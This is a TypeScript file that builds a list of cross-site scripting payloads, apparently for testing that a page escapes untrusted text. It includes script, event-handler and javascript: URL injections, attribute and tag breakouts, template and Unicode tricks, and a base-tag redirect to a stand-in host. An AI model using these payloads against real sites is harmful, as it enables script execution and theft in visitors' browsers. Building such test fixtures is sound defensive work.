// Texts that a page without escaping would run: elements by events, links by schemes, each broken out of each
// place a text stands in.

const ELEMENTS = [
  "<script>alert(1)</script>",
  "<svg onload=alert(1)>",
  "<svg/onload=alert(1)//",
  "<img src=x onerror=alert(1)>",
  "<body onload=alert(1)>",
  "<iframe src=javascript:alert(1)>",
  "<details open ontoggle=alert(1)>",
  "<video><source onerror=alert(1)>",
  "<math><mtext></p><style><img src=x onerror=alert(1)>",
  "<svg><style><img src=x onerror=alert(1)></style>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<a href=javascript:alert(1)>x</a>",
  "<a href='&#106;avascript:alert(1)'>x</a>",
  "<form action=javascript:alert(1)><button>",
  "<input autofocus onfocus=alert(1)>",
  "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
  "<base href=//evil.example>",
  "<object data=javascript:alert(1)>",
] as const;
/** Out of an attribute, a script, a title, a comment. */
const BREAKOUTS = ["", '">', "</script>", "--></title>"] as const;
const OTHERS = [
  "javascript:alert(1)",
  "{{constructor.constructor('alert(1)')()}}",
  "${alert(1)}",
  "\u2028alert(1)\u2029",
  "\u202E<script>alert(1)</script>",
  "<scr\u0000ipt>alert(1)</script>",
  "\uFF1Cscript\uFF1Ealert(1)",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "%3Cscript%3Ealert(1)%3C/script%3E",
  "'\"><x y=z>",
] as const;

export const XSS_PAYLOADS: readonly string[] = [
  ...BREAKOUTS.flatMap((out) => ELEMENTS.map((element) => out + element)),
  ...OTHERS,
];
